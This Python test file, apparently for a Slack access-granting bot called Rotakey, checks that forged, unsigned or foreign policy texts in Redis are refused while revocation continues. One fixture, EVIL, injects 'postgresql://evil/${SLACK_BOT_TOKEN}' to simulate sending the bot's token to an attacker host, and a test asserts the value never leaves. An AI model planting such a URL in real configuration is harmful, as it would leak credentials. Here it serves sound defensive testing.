"""A policy text that Rotakey's own processes did not put in Redis is not followed: it grants nothing."""

from __future__ import annotations

import pytest
from structlog.testing import capture_logs

from bot.core.authentic import hmac_of
from bot.core.catalog import version_of
from bot.core.errors import Refused, TemporaryFailure
from bot.core.reasons import Why, because
from bot.ports.deadline import Deadline
from bot.ports.documents import Key, PolicyDoubt, PolicyInForce, PolicyText
from bot.slack.wording.reasons import refusal
from bot.testing.cast import ADA, BOB, DAN
from tests.wiring.scene import ADAS, KEY, NEXT_KEY, OLD, TEXT, Scene

V1, SECOND = version_of(TEXT), TEXT + "# the second\n"
V2 = version_of(SECOND)
OPEN_TO_ALL = SECOND.replace("approvers: [U03BOB]}", "approvers: [U01ADA]}")
EVIL = TEXT.replace("${OLD_URL}", "postgresql://evil/${SLACK_BOT_TOKEN}")


def doubted(scene: Scene) -> PolicyDoubt | None:
    return scene.ledger.read({Key.of(PolicyDoubt)}).find(PolicyDoubt)


def test_a_text_that_is_not_its_version_is_not_followed_and_revoking_goes_on(scene: Scene) -> None:
    web = scene.started()
    adas = web.ask(ADA).standing.grant.id
    web.approve(BOB, adas)
    dans = web.ask(DAN).standing.grant.id
    scene.started(SECOND)
    scene.forge(OPEN_TO_ALL)
    assert web.context.catalog().closed == because(Why.POLICY_CHANGED, version=V2)
    assert web.context.catalog().version == V1
    for attempt in (lambda: web.ask(ADA, "bills"), lambda: web.approve(BOB, dans)):
        with pytest.raises(Refused) as refused:
            attempt()
        assert refusal(refused.value.reason) == (
            "I can't trust the policy in force, so I grant nothing now. Giving back and revoking still "
            "work. Ask the people who run Rotakey: `rotakey doctor` shows why."
        )
    assert web.give_back(DAN).grant.id == dans
    assert not web.revoke(BOB, ADA).live


def test_the_security_channel_hears_it_once_whichever_process_notices(scene: Scene) -> None:
    first, other = scene.started(), scene.started()
    scene.started(SECOND)
    scene.forge(OPEN_TO_ALL)
    for _ in range(3):
        first.context.catalog()
        other.context.catalog()
    [note] = scene.notes_in()
    assert refusal(note.reason) == (
        f"🚨 Somebody changed the policy text in Redis: it no longer matches version {V2}. I grant nothing"
        " now, and keep revoking by the policy I followed before. Run `rotakey policy apply FILE` with the"
        " access.yaml that you want, and find out who can write to Redis."
    )
    assert scene.history().count("policy not followed") == 1
    scene.forge(OPEN_TO_ALL + "# again\n")
    first.context.catalog()
    assert len(scene.notes_in()) == 1


def test_it_is_logged_once_a_text(scene: Scene) -> None:
    web = scene.started()
    scene.started(SECOND)
    scene.forge(OPEN_TO_ALL)
    with capture_logs() as logs:
        for _ in range(3):
            web.context.catalog()
    assert [(each["event"], each["why"]) for each in logs] == [("policy not followed", "policy_changed")]


def test_a_text_that_is_put_right_is_followed_again(scene: Scene) -> None:
    web = scene.started()
    worker = scene.started(SECOND)
    scene.forge(OPEN_TO_ALL)
    assert web.context.catalog().closed
    assert doubted(scene)
    worker.start()
    assert doubted(scene) is None
    assert "policy text put right" in scene.history()
    assert (web.context.catalog().version, web.context.catalog().closed) == (V2, None)
    assert web.ask(ADA).standing.grant.person == ADA


def test_and_if_somebody_else_puts_it_right_the_process_that_doubted_says_so(scene: Scene) -> None:
    web = scene.started()
    scene.started(SECOND)
    scene.forge(OPEN_TO_ALL)
    assert web.context.catalog().closed
    scene.forge(SECOND)
    assert web.context.catalog().closed is None
    assert doubted(scene) is None
    assert scene.history()[-1] == "policy followed again"


def test_a_doubt_that_is_cleared_by_a_process_that_does_not_share_it_comes_back(scene: Scene) -> None:
    web = scene.started(SECRET_KEY=KEY)
    keyless = scene.started(SECOND)
    unsigned = because(Why.POLICY_UNSIGNED, version=V2)
    for times in (1, 2):
        assert web.context.catalog().closed == unsigned
        web.context.catalog()
        assert [note.reason for note in scene.notes_in()] == [unsigned] * times
        found = doubted(scene)
        assert found
        assert found.reason == unsigned
        keyless.start()
        assert doubted(scene) is None
    assert scene.history().count("policy not followed") == 2


def test_a_text_without_our_hmac_is_not_followed(scene: Scene) -> None:
    web = scene.started(SECRET_KEY=KEY)
    scene.put(
        {Key.of(PolicyText, V2): PolicyText(text=SECOND), Key.of(PolicyInForce): PolicyInForce(version=V2)}
    )
    assert web.context.catalog().closed == because(Why.POLICY_UNSIGNED, version=V2)
    keyless = scene.started(SECOND)
    assert keyless.context.catalog().closed is None
    assert web.context.catalog().closed


@pytest.mark.parametrize("hmac", ["", "0" * 64, "é", hmac_of(SECOND, b"x" * 32), hmac_of(TEXT, KEY.encode())])
def test_nor_is_one_with_another(scene: Scene, hmac: str) -> None:
    web = scene.started(SECRET_KEY=KEY)
    text = PolicyText(text=SECOND, hmacs=(hmac,))
    scene.put({Key.of(PolicyText, V2): text, Key.of(PolicyInForce): PolicyInForce(version=V2)})
    assert web.context.catalog().closed == because(Why.POLICY_UNSIGNED, version=V2)


def test_without_a_key_a_text_in_redis_still_cannot_send_our_own_variables_out(scene: Scene) -> None:
    web = scene.started(SLACK_BOT_TOKEN="xoxb-1")
    version = version_of(EVIL)
    text = PolicyText(text=EVIL)
    scene.put({Key.of(PolicyText, version): text, Key.of(PolicyInForce): PolicyInForce(version=version)})
    with capture_logs():
        closed = web.context.catalog().closed
    assert closed
    assert closed.why is Why.POLICY_UNREADABLE
    assert "xoxb" not in str(closed)
    web.adapters.target("orders-db").revoke(ADAS, (), Deadline.after(1))
    assert [url for url in scene.servers if "xoxb" in url or "evil" in url] == []
    with pytest.raises(TemporaryFailure, match="so it grants nothing"):
        web.adapters.target("orders-db").prepare(ADAS, Deadline.after(1))


def test_a_text_of_another_workspace_is_not_followed(scene: Scene) -> None:
    web = scene.started(SECRET_KEY=KEY)
    other = "workspace: other\n" + TEXT
    version, hmacs = version_of(other), (hmac_of(other, KEY.encode()),)
    text = PolicyText(text=other, hmacs=hmacs)
    scene.put({Key.of(PolicyText, version): text, Key.of(PolicyInForce): PolicyInForce(version=version)})
    assert web.context.catalog().closed == because(Why.POLICY_FOREIGN, version=version)


def test_a_process_that_meets_a_forged_text_first_revokes_by_its_own_file_and_grants_nothing(
    scene: Scene,
) -> None:
    scene.started(SECOND)
    scene.forge(EVIL)
    fresh = scene.follower()
    assert (fresh.context.catalog().version, bool(fresh.context.catalog().closed)) == (V1, True)
    target = fresh.adapters.target("orders-db")
    target.revoke(ADAS, (), Deadline.after(1))
    assert scene.servers[OLD].revoked == ["ada@example.com"]
    for attempt in (
        lambda: target.prepare(ADAS, Deadline.after(1)),
        lambda: target.grant(ADAS, (), None, Deadline.after(1)),
        lambda: target.ready(ADAS, Deadline.after(1)),
    ):
        with pytest.raises(TemporaryFailure, match="cannot follow the policy in force, so it grants nothing"):
            attempt()


def test_once_it_starts_its_own_file_is_in_force(scene: Scene) -> None:
    scene.started(SECOND)
    scene.forge(EVIL)
    worker = scene.started()
    assert (worker.context.catalog().version, worker.context.catalog().closed) == (V1, None)
    worker.adapters.target("orders-db").prepare(ADAS, Deadline.after(1))


# ------------------------------------------------------------------------------------------- keys


def test_a_process_that_starts_with_the_text_in_force_adds_its_hmac(scene: Scene) -> None:
    scene.started()
    assert scene.text().hmacs == ()
    scene.started(SECRET_KEY=KEY)
    assert scene.text().hmacs == (hmac_of(TEXT, KEY.encode()),)
    scene.started()
    assert scene.text().hmacs == (hmac_of(TEXT, KEY.encode()),)


@pytest.mark.parametrize("between", [" ", ",", ", ", "\n"])
def test_while_the_key_is_rotated_processes_with_either_follow(scene: Scene, between: str) -> None:
    scene.started(SECRET_KEY=KEY)
    scene.started(SECOND, SECRET_KEY=f"{NEXT_KEY}{between}{KEY}")
    for key in (KEY, NEXT_KEY):
        follower = scene.follower(SECRET_KEY=key)
        assert (follower.context.catalog().version, follower.context.catalog().closed) == (V2, None)
    scene.started(SECOND, SECRET_KEY=KEY)
    assert scene.follower(SECRET_KEY=NEXT_KEY).context.catalog().closed is None


def test_a_key_that_nobody_has_any_more_does_not_stay_for_ever(scene: Scene) -> None:
    for letter in "abcdefgh":
        scene.started(SECRET_KEY=letter * 32)
    assert len(scene.text().hmacs) == 4
    assert scene.text().hmacs[0] == hmac_of(TEXT, b"h" * 32)
